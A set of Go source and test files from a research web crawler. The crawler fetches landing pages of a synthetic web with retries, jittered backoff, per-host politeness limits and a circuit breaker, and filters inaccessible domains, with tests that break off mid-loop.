	if !b.Allow(host) {
		t.Error("straggler failures must not extend the cooldown")
	}
}

// Hosts are independent: one melting down never sheds another.
func TestBreakerPerHostIsolation(t *testing.T) {
	b, _ := newTestBreaker(1, time.Minute)
	b.Failure("bad.example")
	if b.Allow("bad.example") {
		t.Error("tripped host should shed")
	}
	if !b.Allow("good.example") {
		t.Error("unrelated host must stay closed")
	}
	b.Success("unknown.example") // no-op, must not panic or create state
	if !b.Allow("unknown.example") {
		t.Error("unknown host should be allowed")
	}
}
