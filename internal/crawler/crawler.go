// Package crawler implements the study's landing-page crawler (Section 4.1).
//
// Like the paper's collector it is a Go net/http crawler that visits every
// domain of the ranked list once per snapshot week, records the landing
// page, and tolerates the open Web's failure modes: refused connections,
// timeouts, 4xx anti-bot answers, and 5xx flakiness. Fetches run on a
// bounded worker pool; results stream to the caller in completion order.
package crawler

import (
	"context"
	"errors"
	"fmt"
	"io"
	"math"
	"net/http"
	neturl "net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"clientres/internal/htmlx"
	"clientres/internal/webserver"
)

// Config parameterizes a Crawler.
type Config struct {
	// BaseURL is the root of the web under test, e.g. "http://127.0.0.1:8080".
	BaseURL string
	// Workers bounds concurrent fetches (default 32).
	Workers int
	// Timeout bounds one fetch including body read (default 10s).
	Timeout time.Duration
	// FetchTimeout, when positive, bounds one whole Fetch — every attempt,
	// backoff sleep, and same-site script fetch of one (domain, week) —
	// with a context deadline. Unlike Timeout (one HTTP exchange) it caps
	// the worst case across retries, so a single hung host cannot stall a
	// crawl slot longer than the deadline; the expired fetch surfaces as
	// the usual Status-0 page, not a crawl failure.
	FetchTimeout time.Duration
	// Retries is the number of re-attempts after connection-level errors
	// (default 1). HTTP error statuses are never retried — they are data.
	// Pass NoRetries to request exactly one attempt: the config zero value
	// means "default", so a plain 0 cannot express zero retries.
	Retries int
	// MaxBodyBytes caps how much of a page is read (default 2 MiB).
	MaxBodyBytes int64
	// UserAgent identifies the crawler.
	UserAgent string
	// Backoff shapes the delay between retry attempts: exponential with
	// deterministic per-(host, attempt) jitter. The zero value uses the
	// defaults (50ms base, 2s cap, ×2 growth). Always active — unlike the
	// Resilience layer it needs no opt-in.
	Backoff Backoff
	// Resilience enables the per-host politeness limiter, circuit breaker,
	// and weekly retry budget. The zero value disables all three, leaving
	// fetch behavior identical to a crawler without the layer.
	Resilience Resilience
	// FetchScripts, when true, additionally fetches every same-site
	// <script src> of a successfully fetched landing page and attaches the
	// bodies to Page.Scripts, so bundle-aware fingerprinting can scan
	// script content. Cross-origin srcs (absolute or protocol-relative
	// URLs) are skipped: the study crawls landing pages only, and the
	// synthetic web under test serves same-site assets exclusively.
	FetchScripts bool
	// WrapTransport, when set, wraps (or replaces) the http.RoundTripper
	// the crawler would otherwise build — the record/replay seam. The
	// wexbundle recorder wraps the inner transport to capture every
	// response; the replayer discards it entirely, so a replayed crawl
	// cannot touch the network even by accident.
	WrapTransport func(inner http.RoundTripper) http.RoundTripper
}

// MaxScriptsPerPage bounds how many same-site scripts one page fetch will
// follow — a defensive cap against adversarial pages, far above anything
// the generator emits.
const MaxScriptsPerPage = 32

// Resilience parameterizes the opt-in per-host resilience layer.
type Resilience struct {
	// Enabled turns the layer on.
	Enabled bool
	// MaxPerHost bounds in-flight requests per host (default 2).
	MaxPerHost int
	// MinGap is the minimum interval between request starts on one host
	// (default 15ms). Retries against a host observe it too.
	MinGap time.Duration
	// BreakerThreshold consecutive connection-level failures open a host's
	// circuit (default 3). HTTP error statuses never count.
	BreakerThreshold int
	// BreakerCooldown is how long an open circuit sheds load before
	// admitting a half-open probe (default 30s).
	BreakerCooldown time.Duration
	// RetryBudget caps total retries per CrawlWeek, shared across all
	// hosts, so a globally-degraded week degrades gracefully instead of
	// multiplying timeouts (0 = one retry per domain, negative =
	// unlimited).
	RetryBudget int
}

// ErrHostSuspended is wrapped into Page.Err when the circuit breaker sheds
// a fetch without attempting a connection. The page records as an ordinary
// connection failure (Status 0).
var ErrHostSuspended = errors.New("host suspended by circuit breaker")

// NoRetries is the Config.Retries sentinel requesting a single fetch
// attempt with no connection-level re-tries.
const NoRetries = -1

func (c Config) withDefaults() Config {
	if c.Workers == 0 {
		c.Workers = 32
	}
	if c.Timeout == 0 {
		c.Timeout = 10 * time.Second
	}
	switch {
	case c.Retries == 0:
		c.Retries = 1
	case c.Retries < 0:
		c.Retries = 0
	}
	if c.MaxBodyBytes == 0 {
		c.MaxBodyBytes = 2 << 20
	}
	if c.UserAgent == "" {
		c.UserAgent = "clientres-study-crawler/1.0"
	}
	return c
}

// Page is the outcome of one (domain, week) fetch.
type Page struct {
	Domain string
	Week   int
	// Status is the HTTP status, or 0 when the connection failed.
	Status int
	// Body is the landing page HTML ("" on failure).
	Body string
	// Scripts holds the fetched same-site script bodies, in page order,
	// when Config.FetchScripts is set. A script that failed to fetch keeps
	// its URL with an empty Body — the scanner skips empties, so a flaky
	// asset degrades detection instead of failing the page.
	Scripts []Script
	// Err is the connection-level error, if any.
	Err error
	// Duration is the wall time of the attempt that produced this result
	// (the successful attempt, or the last failed one). Retried attempts'
	// backoff sleeps are excluded: this is honest per-fetch timing for
	// bundle recording, not end-to-end latency.
	Duration time.Duration
}

// Script is one fetched same-site script resource.
type Script struct {
	// URL is the src attribute exactly as written on the page.
	URL string
	// Body is the script content ("" when the fetch failed).
	Body string
	// Status is the HTTP status of the script fetch (0 on connection
	// failure), recorded even though a non-200 script keeps an empty Body.
	Status int
	// Duration is the wall time of the attempt that produced this result.
	Duration time.Duration
}

// Crawler fetches landing pages.
type Crawler struct {
	cfg     Config
	client  *http.Client
	backoff Backoff
	// polite, breaker, and budget are non-nil only with Resilience.Enabled.
	polite  *Politeness
	breaker *Breaker
	// budget is the week's remaining retry allowance; CrawlWeek pins it at
	// the start of each week, so standalone Fetch calls before the first
	// week see an effectively unlimited budget.
	budget  *atomic.Int64
	metrics Metrics
}

// New builds a Crawler. The underlying http.Client reuses connections
// across fetches.
func New(cfg Config) *Crawler {
	cfg = cfg.withDefaults()
	var transport http.RoundTripper = &http.Transport{
		MaxIdleConns:        cfg.Workers * 2,
		MaxIdleConnsPerHost: cfg.Workers * 2,
		IdleConnTimeout:     30 * time.Second,
	}
	if cfg.WrapTransport != nil {
		transport = cfg.WrapTransport(transport)
	}
	c := &Crawler{
		cfg:     cfg,
		client:  &http.Client{Transport: transport, Timeout: cfg.Timeout},
		backoff: cfg.Backoff.withDefaults(),
	}
	if r := cfg.Resilience; r.Enabled {
		maxPerHost := r.MaxPerHost
		if maxPerHost == 0 {
			maxPerHost = 2
		}
		minGap := r.MinGap
		if minGap == 0 {
			minGap = 15 * time.Millisecond
		}
		c.polite = NewPoliteness(maxPerHost, minGap)
		c.breaker = NewBreaker(r.BreakerThreshold, r.BreakerCooldown)
		if r.RetryBudget >= 0 {
			c.budget = new(atomic.Int64)
			c.budget.Store(math.MaxInt64)
		}
	}
	return c
}

// Metrics returns a snapshot of the crawler's cumulative counters.
func (c *Crawler) Metrics() MetricsSnapshot { return c.metrics.Snapshot() }

// takeBudget consumes one retry from the shared weekly budget, reporting
// false when the budget is spent.
func takeBudget(budget *atomic.Int64) bool {
	for {
		v := budget.Load()
		if v <= 0 {
			return false
		}
		if budget.CompareAndSwap(v, v-1) {
			return true
		}
	}
}

// sleepCtx sleeps for d or until ctx is done, returning the context error
// in the latter case.
func sleepCtx(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Fetch retrieves one domain's landing page for a snapshot week, plus its
// same-site scripts when Config.FetchScripts is set.
func (c *Crawler) Fetch(ctx context.Context, week int, domain string) Page {
	if c.cfg.FetchTimeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, c.cfg.FetchTimeout)
		defer cancel()
	}
	page := c.fetch(ctx, week, domain, c.cfg.BaseURL+webserver.PageURL(week, domain))
	if c.cfg.FetchScripts && page.Err == nil && page.Status == http.StatusOK {
		page.Scripts = c.fetchScripts(ctx, week, domain, page.Body)
	}
	return page
}

// fetchScripts retrieves the same-site script resources referenced by a
// landing page, through the same resilient fetch path as the page itself
// (same backoff schedule, politeness gate, and breaker circuit — all keyed
// by the domain). Cross-origin srcs are skipped, failed fetches keep their
// URL with an empty body.
func (c *Crawler) fetchScripts(ctx context.Context, week int, domain, html string) []Script {
	var out []Script
	for _, src := range htmlx.ScriptSrcs(html) {
		if strings.HasPrefix(src, "//") || strings.Contains(src, "://") {
			continue // cross-origin: landing-page study fetches same-site only
		}
		if len(out) >= MaxScriptsPerPage {
			break
		}
		sp := c.fetch(ctx, week, domain, c.cfg.BaseURL+webserver.AssetURL(week, domain, src))
		body := ""
		if sp.Err == nil && sp.Status == http.StatusOK {
			body = sp.Body
		}
		out = append(out, Script{URL: src, Body: body, Status: sp.Status, Duration: sp.Duration})
	}
	return out
}

// FetchURL retrieves an arbitrary http(s) URL through the same resilient
// fetch path as Fetch — retry with backoff, per-host politeness, circuit
// breaker, retry budget — keyed by the URL's host. The online audit
// service uses this for {"url": ...} audits. Page.Domain is the host and
// Page.Week is 0.
func (c *Crawler) FetchURL(ctx context.Context, rawurl string) Page {
	u, err := neturl.Parse(rawurl)
	if err != nil {
		return Page{Domain: rawurl, Err: fmt.Errorf("crawler: parse url: %w", err)}
	}
	if (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
		return Page{Domain: u.Host, Err: fmt.Errorf("crawler: unsupported url %q", rawurl)}
	}
	return c.fetch(ctx, 0, u.Host, rawurl)
}

// fetch is the shared resilient fetch loop; domain keys the backoff
// schedule, politeness gate, breaker circuit, and retry budget.
func (c *Crawler) fetch(ctx context.Context, week int, domain, url string) Page {
	page := Page{Domain: domain, Week: week}
	var lastErr error
	for attempt := 0; attempt <= c.cfg.Retries; attempt++ {
		if attempt > 0 {
			if c.budget != nil && !takeBudget(c.budget) {
				c.metrics.budgetExhausted.Add(1)
				break
			}
			c.metrics.retries.Add(1)
			if err := sleepCtx(ctx, c.backoff.Delay(domain, attempt)); err != nil {
				page.Err = err
				return page
			}
		}
		if c.breaker != nil && !c.breaker.Allow(domain) {
			c.metrics.breakerShed.Add(1)
			if lastErr == nil {
				lastErr = ErrHostSuspended
			}
			break
		}
		if c.polite != nil {
			if err := c.polite.Acquire(ctx, domain); err != nil {
				page.Err = err
				return page
			}
		}
		status, body, dur, err := c.attempt(ctx, url)
		page.Duration = dur
		if c.polite != nil {
			c.polite.Release(domain)
		}
		if err != nil {
			if c.breaker != nil && c.breaker.Failure(domain) {
				c.metrics.breakerTrips.Add(1)
			}
			// A cancelled context is the caller giving up, not the host
			// failing: surface it immediately instead of burning the
			// remaining retries against a dead deadline.
			if ctx.Err() != nil {
				page.Err = ctx.Err()
				return page
			}
			lastErr = err
			continue
		}
		if c.breaker != nil {
			c.breaker.Success(domain)
		}
		page.Status = status
		page.Body = body
		page.Err = nil
		return page
	}
	page.Err = fmt.Errorf("crawler: %s week %d: %w", domain, week, lastErr)
	return page
}

// drainLimit bounds how much of a truncated body attempt reads past
// MaxBodyBytes: enough to reach EOF on moderately-oversized pages (keeping
// the keep-alive connection reusable), small enough that a huge page costs
// a connection rather than an unbounded read.
const drainLimit = 256 << 10

// attempt performs one HTTP request and returns the status, (truncated)
// body, and the attempt's wall time. Connection-level failures — dial,
// timeout, mid-body errors — come back as err, still with the time the
// failure took to surface.
func (c *Crawler) attempt(ctx context.Context, url string) (status int, body string, dur time.Duration, err error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return 0, "", 0, err
	}
	req.Header.Set("User-Agent", c.cfg.UserAgent)
	c.metrics.attempts.Add(1)
	start := time.Now()
	resp, err := c.client.Do(req)
	if err != nil {
		c.metrics.connFailures.Add(1)
		return 0, "", time.Since(start), err
	}
	b, err := io.ReadAll(io.LimitReader(resp.Body, c.cfg.MaxBodyBytes))
	if err == nil {
		// Read a bounded remainder so the transport sees EOF and can
		// recycle the connection; closing with unread bytes kills it.
		_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, drainLimit))
	}
	_ = resp.Body.Close()
	dur = time.Since(start)
	if err != nil {
		c.metrics.connFailures.Add(1)
		return 0, "", dur, err
	}
	c.metrics.successes.Add(1)
	c.metrics.bytes.Add(int64(len(b)))
	c.metrics.lat.Record(dur)
	return resp.StatusCode, string(b), dur, nil
}

// CrawlWeek fetches every domain for one snapshot week on the worker pool
// and calls fn for each result from a single goroutine, in completion order.
// It returns the first context error, if any.
//
// The single-goroutine callback delivery is a documented contract, not an
// implementation accident: callers capture unsynchronized state in fn
// (core's observation error, test accumulators) and rely on it. CrawlWeek
// also does not return until every completed fetch has been delivered to
// fn. TestCrawlWeekCallbackSingleGoroutine fails under -race if either
// property breaks.
func (c *Crawler) CrawlWeek(ctx context.Context, week int, domains []string, fn func(Page)) error {
	if c.budget != nil {
		// Pin the week's shared retry budget: every fetch of the week draws
		// from the same pool, so a globally-degraded ecosystem stops
		// retrying once the allowance is spent instead of timing out
		// (retries+1)× per domain.
		n := int64(c.cfg.Resilience.RetryBudget)
		if n == 0 {
			n = int64(len(domains))
		}
		c.budget.Store(n)
	}
	jobs := make(chan string)
	results := make(chan Page)

	var wg sync.WaitGroup
	for i := 0; i < c.cfg.Workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for domain := range jobs {
				results <- c.Fetch(ctx, week, domain)
			}
		}()
	}
	go func() {
		defer close(jobs)
		for _, d := range domains {
			select {
			case jobs <- d:
			case <-ctx.Done():
				return
			}
		}
	}()
	go func() {
		wg.Wait()
		close(results)
	}()

	for page := range results {
		fn(page)
	}
	return ctx.Err()
}

// Outcome summarizes a fetch for the inaccessible-domain filter.
type Outcome struct {
	// Status 0 means the connection failed outright.
	Status int
	// Bytes is the body length.
	Bytes int
}

// ErrorOrEmpty reports whether an outcome is an error page or an empty page
// under the paper's criteria: non-200 status, or a body under 400 bytes
// (every such page was manually confirmed to be an error or anti-bot page).
func (o Outcome) ErrorOrEmpty() bool { return o.Status != 200 || o.Bytes < 400 }

// Inaccessible implements the paper's filter: a domain is removed from the
// dataset when it answered with an error or empty page for all four
// consecutive weeks of the last month of the collection period.
func Inaccessible(lastFourWeeks []Outcome) bool {
	if len(lastFourWeeks) < 4 {
		return true // never seen healthy in the final month
	}
	for _, o := range lastFourWeeks {
		if !o.ErrorOrEmpty() {
			return false
		}
	}
	return true
}

// FilterInaccessible returns the set of domains to prune given each domain's
// outcomes over the final four snapshot weeks.
func FilterInaccessible(byDomain map[string][]Outcome) map[string]bool {
	out := make(map[string]bool)
	for domain, outcomes := range byDomain {
		if Inaccessible(outcomes) {
			out[domain] = true
		}
	}
	return out
}
