// Package crawler implements the study's landing-page crawler (Section 4.1).
//
// Like the paper's collector it is a Go net/http crawler that visits every
// domain of the ranked list once per snapshot week, records the landing
// page, and tolerates the open Web's failure modes: refused connections,
// timeouts, 4xx anti-bot answers, and 5xx flakiness. Fetches run on a
// bounded worker pool; results stream to the caller in completion order.
package crawler

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"sync"
	"time"

	"clientres/internal/webserver"
)

// Config parameterizes a Crawler.
type Config struct {
	// BaseURL is the root of the web under test, e.g. "http://127.0.0.1:8080".
	BaseURL string
	// Workers bounds concurrent fetches (default 32).
	Workers int
	// Timeout bounds one fetch including body read (default 10s).
	Timeout time.Duration
	// Retries is the number of re-attempts after connection-level errors
	// (default 1). HTTP error statuses are never retried — they are data.
	// Pass NoRetries to request exactly one attempt: the config zero value
	// means "default", so a plain 0 cannot express zero retries.
	Retries int
	// MaxBodyBytes caps how much of a page is read (default 2 MiB).
	MaxBodyBytes int64
	// UserAgent identifies the crawler.
	UserAgent string
}

// NoRetries is the Config.Retries sentinel requesting a single fetch
// attempt with no connection-level re-tries.
const NoRetries = -1

func (c Config) withDefaults() Config {
	if c.Workers == 0 {
		c.Workers = 32
	}
	if c.Timeout == 0 {
		c.Timeout = 10 * time.Second
	}
	switch {
	case c.Retries == 0:
		c.Retries = 1
	case c.Retries < 0:
		c.Retries = 0
	}
	if c.MaxBodyBytes == 0 {
		c.MaxBodyBytes = 2 << 20
	}
	if c.UserAgent == "" {
		c.UserAgent = "clientres-study-crawler/1.0"
	}
	return c
}

// Page is the outcome of one (domain, week) fetch.
type Page struct {
	Domain string
	Week   int
	// Status is the HTTP status, or 0 when the connection failed.
	Status int
	// Body is the landing page HTML ("" on failure).
	Body string
	// Err is the connection-level error, if any.
	Err error
}

// Crawler fetches landing pages.
type Crawler struct {
	cfg    Config
	client *http.Client
}

// New builds a Crawler. The underlying http.Client reuses connections
// across fetches.
func New(cfg Config) *Crawler {
	cfg = cfg.withDefaults()
	transport := &http.Transport{
		MaxIdleConns:        cfg.Workers * 2,
		MaxIdleConnsPerHost: cfg.Workers * 2,
		IdleConnTimeout:     30 * time.Second,
	}
	return &Crawler{
		cfg:    cfg,
		client: &http.Client{Transport: transport, Timeout: cfg.Timeout},
	}
}

// Fetch retrieves one domain's landing page for a snapshot week.
func (c *Crawler) Fetch(ctx context.Context, week int, domain string) Page {
	page := Page{Domain: domain, Week: week}
	url := c.cfg.BaseURL + webserver.PageURL(week, domain)
	var lastErr error
	for attempt := 0; attempt <= c.cfg.Retries; attempt++ {
		if attempt > 0 {
			select {
			case <-ctx.Done():
				page.Err = ctx.Err()
				return page
			case <-time.After(50 * time.Millisecond):
			}
		}
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
		if err != nil {
			page.Err = err
			return page
		}
		req.Header.Set("User-Agent", c.cfg.UserAgent)
		resp, err := c.client.Do(req)
		if err != nil {
			lastErr = err
			continue // connection-level failure: retry
		}
		body, err := io.ReadAll(io.LimitReader(resp.Body, c.cfg.MaxBodyBytes))
		_ = resp.Body.Close()
		if err != nil {
			lastErr = err
			continue
		}
		page.Status = resp.StatusCode
		page.Body = string(body)
		page.Err = nil
		return page
	}
	page.Err = fmt.Errorf("crawler: %s week %d: %w", domain, week, lastErr)
	return page
}

// CrawlWeek fetches every domain for one snapshot week on the worker pool
// and calls fn for each result from a single goroutine, in completion order.
// It returns the first context error, if any.
//
// The single-goroutine callback delivery is a documented contract, not an
// implementation accident: callers capture unsynchronized state in fn
// (core's observation error, test accumulators) and rely on it. CrawlWeek
// also does not return until every completed fetch has been delivered to
// fn. TestCrawlWeekCallbackSingleGoroutine fails under -race if either
// property breaks.
func (c *Crawler) CrawlWeek(ctx context.Context, week int, domains []string, fn func(Page)) error {
	jobs := make(chan string)
	results := make(chan Page)

	var wg sync.WaitGroup
	for i := 0; i < c.cfg.Workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for domain := range jobs {
				results <- c.Fetch(ctx, week, domain)
			}
		}()
	}
	go func() {
		defer close(jobs)
		for _, d := range domains {
			select {
			case jobs <- d:
			case <-ctx.Done():
				return
			}
		}
	}()
	go func() {
		wg.Wait()
		close(results)
	}()

	for page := range results {
		fn(page)
	}
	return ctx.Err()
}

// Outcome summarizes a fetch for the inaccessible-domain filter.
type Outcome struct {
	// Status 0 means the connection failed outright.
	Status int
	// Bytes is the body length.
	Bytes int
}

// ErrorOrEmpty reports whether an outcome is an error page or an empty page
// under the paper's criteria: non-200 status, or a body under 400 bytes
// (every such page was manually confirmed to be an error or anti-bot page).
func (o Outcome) ErrorOrEmpty() bool { return o.Status != 200 || o.Bytes < 400 }

// Inaccessible implements the paper's filter: a domain is removed from the
// dataset when it answered with an error or empty page for all four
// consecutive weeks of the last month of the collection period.
func Inaccessible(lastFourWeeks []Outcome) bool {
	if len(lastFourWeeks) < 4 {
		return true // never seen healthy in the final month
	}
	for _, o := range lastFourWeeks {
		if !o.ErrorOrEmpty() {
			return false
		}
	}
	return true
}

// FilterInaccessible returns the set of domains to prune given each domain's
// outcomes over the final four snapshot weeks.
func FilterInaccessible(byDomain map[string][]Outcome) map[string]bool {
	out := make(map[string]bool)
	for domain, outcomes := range byDomain {
		if Inaccessible(outcomes) {
			out[domain] = true
		}
	}
	return out
}
