package crawler

// Per-fetch metadata: every page and script result carries the HTTP status
// and the wall time of the attempt that produced it — the raw material the
// bundle recorder archives and EXPERIMENTS.md's latency tables summarize.
// Reports never read these fields, so populating them must not change a
// report (the equivalence suites in internal/core pin that).

import (
	"context"
	"net/http/httptest"
	"testing"
	"time"

	"clientres/internal/webgen"
	"clientres/internal/webserver"
)

func TestFetchPopulatesDuration(t *testing.T) {
	eco, srv := startServer(t, 100)
	c := New(Config{BaseURL: srv.URL, Timeout: 5 * time.Second})
	for i := range eco.Sites {
		if !eco.Truth(i, 0).Accessible {
			continue
		}
		page := c.Fetch(context.Background(), 0, eco.Sites[i].Domain.Name)
		if page.Err != nil {
			t.Fatalf("fetch: %v", page.Err)
		}
		if page.Duration <= 0 {
			t.Fatalf("page.Duration = %v, want > 0", page.Duration)
		}
		return
	}
	t.Fatal("no accessible site found")
}

func TestFailedFetchPopulatesDuration(t *testing.T) {
	eco, srv := startServer(t, 300)
	c := New(Config{BaseURL: srv.URL, Timeout: 2 * time.Second})
	for i := range eco.Sites {
		s := eco.Sites[i]
		if s.DeadFromWeek < 0 {
			continue
		}
		page := c.Fetch(context.Background(), s.DeadFromWeek, s.Domain.Name)
		if page.Err == nil {
			t.Fatalf("dead site fetched: status %d", page.Status)
		}
		if page.Duration <= 0 {
			t.Fatalf("failed fetch Duration = %v, want > 0 (the attempt took time)", page.Duration)
		}
		return
	}
	t.Skip("no dead site in sample")
}

func TestScriptResultsCarryStatusAndDuration(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 300, Seed: 5,
		Bundling: webgen.Bundling{Fraction: 0.8, BannerP: 1}})
	srv := httptest.NewServer(webserver.New(eco))
	t.Cleanup(srv.Close)
	c := New(Config{BaseURL: srv.URL, Timeout: 5 * time.Second, FetchScripts: true})
	for i := range eco.Sites {
		if !eco.Truth(i, 0).Accessible {
			continue
		}
		page := c.Fetch(context.Background(), 0, eco.Sites[i].Domain.Name)
		if page.Err != nil || len(page.Scripts) == 0 {
			continue
		}
		for _, s := range page.Scripts {
			if s.Status != 200 {
				t.Errorf("script %s: status %d", s.URL, s.Status)
			}
			if s.Duration <= 0 {
				t.Errorf("script %s: Duration = %v, want > 0", s.URL, s.Duration)
			}
		}
		return
	}
	t.Skip("no accessible site with scripts in sample")
}
