package crawler

import (
	"encoding/binary"
	"hash/fnv"
	"math"
	"time"
)

// Backoff computes the delay schedule between retry attempts: an
// exponential base*Factor^(attempt-1) capped at Max, scaled by a
// deterministic jitter factor in [1/2, 1). The jitter is a pure function of
// (Seed, host, attempt), so two crawlers with the same seed produce the
// same schedule — tests can pin it — while different hosts still spread
// their retries instead of thundering in lockstep.
type Backoff struct {
	// Base is the un-jittered first-retry delay (default 50ms, matching the
	// fixed sleep this schedule replaced).
	Base time.Duration
	// Max caps the un-jittered delay (default 2s).
	Max time.Duration
	// Factor is the per-attempt growth (default 2; values below 1 are
	// treated as the default).
	Factor float64
	// Seed selects the jitter stream.
	Seed int64
}

func (b Backoff) withDefaults() Backoff {
	if b.Base <= 0 {
		b.Base = 50 * time.Millisecond
	}
	if b.Max <= 0 {
		b.Max = 2 * time.Second
	}
	if b.Factor < 1 {
		b.Factor = 2
	}
	return b
}

// Delay returns the sleep preceding retry attempt `attempt` (1-based)
// against host. It is safe on a zero-value Backoff, which uses the
// defaults.
func (b Backoff) Delay(host string, attempt int) time.Duration {
	b = b.withDefaults()
	if attempt < 1 {
		attempt = 1
	}
	d := float64(b.Base) * math.Pow(b.Factor, float64(attempt-1))
	if d > float64(b.Max) {
		d = float64(b.Max)
	}
	return time.Duration(d * b.jitter(host, attempt))
}

// jitter maps (Seed, host, attempt) to [1/2, 1) via FNV-1a. The top 53 bits
// of the hash become the uniform fraction, the mantissa width of float64.
func (b Backoff) jitter(host string, attempt int) float64 {
	h := fnv.New64a()
	var buf [16]byte
	binary.LittleEndian.PutUint64(buf[0:8], uint64(b.Seed))
	binary.LittleEndian.PutUint64(buf[8:16], uint64(attempt))
	_, _ = h.Write(buf[:])
	_, _ = h.Write([]byte(host))
	u := h.Sum64() >> 11
	return 0.5 + 0.5*float64(u)/float64(uint64(1)<<53)
}
