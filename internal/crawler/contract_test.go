package crawler

// Contract tests: the retry semantics of Config.Retries (including the
// NoRetries sentinel) counted against a real listener, the single-goroutine
// callback delivery CrawlWeek documents, and the inaccessible-domain filter
// edge cases.

import (
	"context"
	"net"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// startRefusingServer listens on loopback and closes every accepted
// connection immediately, counting them — each crawler attempt costs
// exactly one connection, so the count is the attempt count.
func startRefusingServer(t *testing.T) (baseURL string, attempts *atomic.Int32) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ln.Close() })
	attempts = new(atomic.Int32)
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			attempts.Add(1)
			_ = conn.Close()
		}
	}()
	return "http://" + ln.Addr().String(), attempts
}

func TestRetryAttemptCounts(t *testing.T) {
	cases := []struct {
		name    string
		retries int
		want    int32
	}{
		{"NoRetries means exactly one attempt", NoRetries, 1},
		{"zero value defaults to one retry", 0, 2},
		{"explicit retries add attempts", 2, 3},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			base, attempts := startRefusingServer(t)
			cr := New(Config{BaseURL: base, Retries: c.retries, Timeout: 2 * time.Second})
			page := cr.Fetch(context.Background(), 0, "refused.example")
			if page.Err == nil {
				t.Fatalf("fetch against a refusing server should error, got status %d", page.Status)
			}
			if got := attempts.Load(); got != c.want {
				t.Errorf("Retries=%d: %d connection attempts, want %d", c.retries, got, c.want)
			}
		})
	}
}

// TestCrawlWeekCallbackSingleGoroutine asserts CrawlWeek's documented
// contract: fn runs on a single goroutine, never concurrently with itself,
// and every completed fetch is delivered before CrawlWeek returns. The
// callback mutates a plain (unsynchronized) map and checks callback overlap
// by CAS — under -race either violation fails the test.
func TestCrawlWeekCallbackSingleGoroutine(t *testing.T) {
	eco, srv := startServer(t, 200)
	c := New(Config{BaseURL: srv.URL, Workers: 16})
	domains := make([]string, len(eco.Sites))
	for i, s := range eco.Sites {
		domains[i] = s.Domain.Name
	}
	var inCallback atomic.Int32
	seen := map[string]int{} // deliberately unsynchronized
	err := c.CrawlWeek(context.Background(), 1, domains, func(p Page) {
		if !inCallback.CompareAndSwap(0, 1) {
			t.Error("callback invoked concurrently with itself")
		}
		seen[p.Domain]++
		inCallback.Store(0)
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(seen) != len(domains) {
		t.Errorf("delivered %d domains before return, want %d", len(seen), len(domains))
	}
	for d, n := range seen {
		if n != 1 {
			t.Errorf("%s delivered %d times", d, n)
		}
	}
}

// TestCrawlWeekCancelMidCrawl cancels the context from inside the callback
// after a few results: CrawlWeek must surface the cancellation and return
// without deadlocking (workers still mid-fetch must not block delivery).
func TestCrawlWeekCancelMidCrawl(t *testing.T) {
	eco, srv := startServer(t, 300)
	c := New(Config{BaseURL: srv.URL, Workers: 8})
	domains := make([]string, len(eco.Sites))
	for i, s := range eco.Sites {
		domains[i] = s.Domain.Name
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	delivered := 0
	done := make(chan error, 1)
	go func() {
		done <- c.CrawlWeek(ctx, 0, domains, func(Page) {
			delivered++
			if delivered == 10 {
				cancel()
			}
		})
	}()
	select {
	case err := <-done:
		if err == nil {
			t.Error("cancelled crawl should surface an error")
		}
	case <-time.After(30 * time.Second):
		t.Fatal("CrawlWeek deadlocked after mid-crawl cancellation")
	}
}

// TestCrawlWeekRaceWithSharedState mirrors how core's sharded pipeline uses
// the callback — pushing into per-shard channels — while a separate
// goroutine drains them. Run under -race this guards the feeder pattern.
func TestCrawlWeekRaceWithSharedState(t *testing.T) {
	eco, srv := startServer(t, 120)
	c := New(Config{BaseURL: srv.URL, Workers: 16})
	domains := make([]string, len(eco.Sites))
	for i, s := range eco.Sites {
		domains[i] = s.Domain.Name
	}
	ch := make(chan Page, 64)
	var wg sync.WaitGroup
	counts := make([]int, 2)
	for s := 0; s < 2; s++ {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			for range ch {
				counts[s]++ // per-goroutine slot; no sharing
			}
		}(s)
	}
	err := c.CrawlWeek(context.Background(), 2, domains, func(p Page) { ch <- p })
	close(ch)
	wg.Wait()
	if err != nil {
		t.Fatal(err)
	}
	if got := counts[0] + counts[1]; got != len(domains) {
		t.Errorf("drained %d pages, want %d", got, len(domains))
	}
}

func TestInaccessibleEdgeCases(t *testing.T) {
	healthy := Outcome{Status: 200, Bytes: 400} // exactly at the threshold
	deadBigBody := Outcome{Status: 0, Bytes: 5000}
	boundary := Outcome{Status: 200, Bytes: 399} // one byte under
	broken := Outcome{Status: 500, Bytes: 2000}
	cases := []struct {
		name     string
		outcomes []Outcome
		want     bool
	}{
		{"exactly four broken weeks", []Outcome{broken, deadBigBody, boundary, broken}, true},
		{"healthy at the 400-byte boundary saves it", []Outcome{broken, broken, healthy, broken}, false},
		{"status 0 is an error even with a large body", []Outcome{deadBigBody, deadBigBody, deadBigBody, deadBigBody}, true},
		{"399 bytes is an empty page despite status 200", []Outcome{boundary, boundary, boundary, boundary}, true},
		{"three weeks of history is inaccessible", []Outcome{healthy, healthy, healthy}, true},
		{"more than four weeks, all broken", []Outcome{broken, broken, broken, broken, broken}, true},
		{"more than four weeks, one healthy", []Outcome{broken, broken, healthy, broken, broken}, false},
	}
	for _, c := range cases {
